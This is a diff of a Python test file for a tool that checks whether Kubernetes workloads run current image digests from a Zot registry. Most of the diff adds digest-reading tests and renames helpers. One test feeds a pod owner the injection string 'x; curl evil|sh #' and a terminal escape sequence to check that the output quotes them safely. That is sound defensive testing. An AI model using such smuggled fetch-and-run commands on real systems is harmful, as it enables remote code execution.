@@ -68,11 +68,23 @@ DEFAULTS: Dict = {
 
 
 class Registry:
-    """A Reader whose images are results of zot_image_info. *asked* are the references that were read, in order."""
+    """A Reader whose images are results of zot_image_info. *asked* are the references that were read, in order.
+
+    *whole* are those of which more than the digest was read.
+    """
 
     def __init__(self, images: t.Iterable[Dict]) -> None:
         self.images = {each["reference"]: each for each in images}
         self.asked: list[str] = []
+        self.whole: list[str] = []
+
+    def parse(self, text: str) -> str:
+        return text
+
+    def digest(self, reference: str) -> str | None:
+        self.asked.append(reference)
+        found: str | None = self.images.get(reference, {}).get("digest")
+        return found
 
 
 @pytest.fixture(autouse=True)
@@ -80,7 +92,7 @@ def _no_registry(monkeypatch: pytest.MonkeyPatch) -> None:
     """Reads come from Registry, and a restart has a known time."""
 
     def look(reader: Registry, query: Dict) -> Dict:
-        reader.asked += query["images"]
+        reader.whole += query["images"]
         return {"images": [reader.images.get(text) or gone(text) for text in query["images"]]}
 
     monkeypatch.setattr(registry_state, "read_images", look)
@@ -159,6 +171,12 @@ class TestAsked:
             f"{DATA}:latest",
         ]
 
+    def test_nothing_but_digests_where_they_are_the_same(self) -> None:
+        """A manifest that is read counts as a pull, and takes a second run of crane for its configuration."""
+        registry = Registry([image()])
+        found = info([workload()], [pod(f"{APP}@{INDEX}")], registry, released=[f"{APP}:latest"])
+        assert (found["ok"], registry.asked, registry.whole) == (True, [f"{APP}:latest"], [])
+
     def test_only_of_the_workloads_that_count(self) -> None:
         registry = Registry(CLUSTER["images"])
         info(CLUSTER["fresh"]["workloads"], images=registry, workloads=["daemonset/daemon"])
@@ -212,10 +230,10 @@ class TestCaptured:
         (after,) = plan(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
         assert (action(after), verdicts(after)) == ("none", ["unknown", "current", "current"])
         found = info(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
-        doubt, of_volume = found["unverified"]
+        text, of_volume = found["unverified"]
         assert (found["ok"], found["problems"]) == (True, [])
         assert (found["workloads"][0]["status"], "image volume workspace" in of_volume) == ("unknown", True)
-        assert doubt == (
+        assert text == (
             f"deployment/openclaw: init container sidecar was started when {REGISTRY}/openclaw/tool:latest meant"
             f" {after['images'][0]['expected'][:19]}, as it does now; it reports {OLD_INDEX[:19]}, which the registry"
             " does not have, so that digests prove nothing"
@@ -286,7 +304,7 @@ class TestSame:
         entry = one(workload(), *(pod(text) for text in running), images=registry)
         (use,) = entry["images"]
         assert use["running"] == sorted({f"{APP}@{OTHER}", f"{APP}@{INDEX}", digest(7)})
-        assert registry.asked == [f"{APP}:latest", f"{APP}@{OTHER}"]
+        assert (registry.asked, registry.whole) == ([f"{APP}:latest"], [f"{APP}:latest", f"{APP}@{OTHER}"])
         assert (entry["pods"], use["expected"]) == (5, INDEX)
 
 
@@ -501,7 +519,7 @@ class TestUnknown:
         """By what is old, also where it is not stale."""
         registry = Registry([image()])
         entry = one(workload(), pod(self.NAME, **self.KNOWN), images=registry)
-        assert (verdicts(entry), registry.asked) == (["unknown"], [f"{APP}:latest", self.NAME])
+        assert (verdicts(entry), registry.whole) == (["unknown"], [f"{APP}:latest", self.NAME])
 
     def test_an_index_that_has_lost_its_manifests_tells_nothing(self) -> None:
         lost = image(self.NAME, GONE, amd64=None)
@@ -658,10 +676,10 @@ class TestBlocked:
 
 
 class TestSelection:
-    """Which workloads are judged."""
+    """Which workloads are assessed."""
 
     @pytest.mark.parametrize("text", ["ghcr.io/a/b:latest", "nginx:latest", f"{REGISTRY}/openclaw/UPPER:1", ""])
-    def test_an_image_of_another_registry_is_not_judged(self, text: str) -> None:
+    def test_an_image_of_another_registry_is_not_assessed(self, text: str) -> None:
         assert plan([workload(container(text))], [pod(f"{APP}@{OTHER}")]) == []
 
     def test_an_image_without_a_tag_is_the_latest(self) -> None:
@@ -678,7 +696,7 @@ class TestSelection:
             plan([workload()], workloads=["deployment/app", "deployment/none"], allow_empty=allow_empty)
 
     def test_a_thousand_pods(self) -> None:
-        """Of a hundred workloads with five images, each judged alone."""
+        """Of a hundred workloads with five images, each assessed alone."""
         workloads, pods = [], []
         for number in range(100):
             name = f"w{number}"
@@ -1028,15 +1046,15 @@ class TestWait:
     def test_a_registry_that_fails(
         self, clock: Clock, monkeypatch: pytest.MonkeyPatch, error_class: str, sleeps: list[int] | None
     ) -> None:
-        answers: list[t.Any] = [ZotError(error_class, "no"), {"images": [image()]}]
+        answers: list[t.Any] = [ZotError(error_class, "no"), INDEX]
 
-        def look(_reader: Registry, _query: Dict) -> t.Any:
-            answer = answers.pop(0)
-            if isinstance(answer, ZotError):
-                raise answer
-            return answer
+        def answer(_reader: Registry, _reference: str) -> t.Any:
+            found = answers.pop(0)
+            if isinstance(found, ZotError):
+                raise found
+            return found
 
-        monkeypatch.setattr(registry_state, "read_images", look)
+        monkeypatch.setattr(Registry, "digest", answer)
         if sleeps is None:
             with pytest.raises(ZotError):
                 info([], cluster=Film(self.done()), wait=True)
@@ -1139,7 +1157,7 @@ class TestUnreadable:
         ]
 
     def test_one_kind(self) -> None:
-        """The others are judged."""
+        """The others are assessed."""
         own = workload()
         cluster = FakeCluster(own, *with_templates([own], [pod(f"{APP}@{OTHER}")]), refused=["cronjobs"])
         found = info([], cluster=cluster)
@@ -1199,8 +1217,8 @@ class TestCronJob:
         assert found["unverified"] == [f"cronjob/app: container app: its pods start later, and pull {APP}:latest then"]
 
     def test_an_image_of_the_node(self) -> None:
-        (doubt,) = info([cronjob(container(policy="IfNotPresent"))])["unverified"]
-        assert doubt.endswith("its pull policy IfNotPresent takes the image of the node")
+        (text,) = info([cronjob(container(policy="IfNotPresent"))])["unverified"]
+        assert text.endswith("its pull policy IfNotPresent takes the image of the node")
 
     def test_an_image_that_is_missing(self) -> None:
         entry = one(cronjob(), images=[])
@@ -1232,7 +1250,7 @@ def action_of_cronjob(entry: Dict) -> t.Any:
     return template["spec"]["containers"]
 
 
-def stray(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = "owner", **more: t.Any) -> Dict:
+def other_pod(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = "owner", **more: t.Any) -> Dict:
     """A pod of no Deployment, StatefulSet or DaemonSet, and of an owner if *kind* is given."""
     found = pod(running, **more)
     found["metadata"]["ownerReferences"] = [{"kind": kind, "name": name, "controller": True}] if kind else []
@@ -1240,7 +1258,7 @@ def stray(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = 
     return found
 
 
-class TestStrays:
+class TestOtherPods:
     """Pods of other owners."""
 
     @pytest.mark.parametrize(
@@ -1254,7 +1272,7 @@ class TestStrays:
     )
     def test_stale_ones_are_reported_with_their_owner(self, kind: str | None, owner: str, is_problem: bool) -> None:
         """A Job ends by itself."""
-        found = info([workload()], [pod(f"{APP}@{INDEX}"), stray(kind=kind), stray(kind=kind, name="owner")])
+        found = info([workload()], [pod(f"{APP}@{INDEX}"), other_pod(kind=kind), other_pod(kind=kind, name="owner")])
         sentences = found["problems"] if is_problem else found["unverified"]
         assert found["ok"] is not is_problem
         (text,) = sentences
@@ -1263,10 +1281,10 @@ class TestStrays:
     @pytest.mark.parametrize(
         "other",
         [
-            pytest.param(stray(f"{APP}@{INDEX}"), id="current"),
-            pytest.param(stray(f"ghcr.io/a/b@{INDEX}"), id="by another name"),
-            pytest.param(stray(phase="Succeeded"), id="over"),
-            pytest.param(stray(ending=True), id="ending"),
+            pytest.param(other_pod(f"{APP}@{INDEX}"), id="current"),
+            pytest.param(other_pod(f"ghcr.io/a/b@{INDEX}"), id="by another name"),
+            pytest.param(other_pod(phase="Succeeded"), id="over"),
+            pytest.param(other_pod(ending=True), id="ending"),
         ],
     )
     def test_others_are_not(self, other: Dict) -> None:
@@ -1275,20 +1293,20 @@ class TestStrays:
 
     def test_another_name_of_the_same_image_is_resolved(self) -> None:
         same = image(f"{APP}@{OTHER}", OTHER, amd64=AMD_CONFIG, arm64=ARM_CONFIG)
-        assert info([workload()], [stray()], [image(), same])["ok"] is True
+        assert info([workload()], [other_pod()], [image(), same])["ok"] is True
 
     def test_named_workloads_have_none(self) -> None:
-        assert info([workload()], [stray()], workloads=["deployment/app"])["ok"] is True
+        assert info([workload()], [other_pod()], workloads=["deployment/app"])["ok"] is True
 
     @pytest.mark.parametrize(("labels", "ok"), [({"app": "x"}, False), ({"app": "y"}, True)])
     def test_labels_select_them(self, labels: dict[str, str], ok: bool) -> None:
-        other = stray()
+        other = other_pod()
         other["metadata"]["labels"] = labels
         own = workload(metadata={"labels": {"app": "x"}})
         assert info([own], [other], label_selectors=["app=x"])["ok"] is ok
 
     def test_a_hostile_owner_is_quoted(self) -> None:
-        (text,) = info([workload()], [stray(kind="x; curl evil|sh #", name="\x1b[2J")])["problems"]
+        (text,) = info([workload()], [other_pod(kind="x; curl evil|sh #", name="\x1b[2J")])["problems"]
         assert "the owner 'x; curl evil|sh #' '\\x1b[2J'" in text
         assert text.isprintable()
 
@@ -1327,6 +1345,12 @@ class TestRelease:
         found = info([own], pods, [*RELEASE_IMAGES, tool], released=RELEASED)
         assert found["ok"] is ok
         assert [text.split(" was released")[0] for text in found["problems"]] == ([] if ok else RELEASED)
+
+    def test_the_same_configurations_under_another_digest(self) -> None:
+        """An index that was written again, for example with annotations."""
+        again = image(f"{APP}:stable", OTHER, amd64=AMD_CONFIG, arm64=ARM_CONFIG)
+        own = workload(container(f"{APP}:stable"))
+        assert info([own], [pod(f"{APP}@{OTHER}")], [image(f"{APP}:{NEW}"), again], released=[f"{APP}:{NEW}"])["ok"]
 
     def test_one_workload_is_enough(self) -> None:
         own = [workload(), workload(container(f"{APP}:{OLD}"), name="other")]
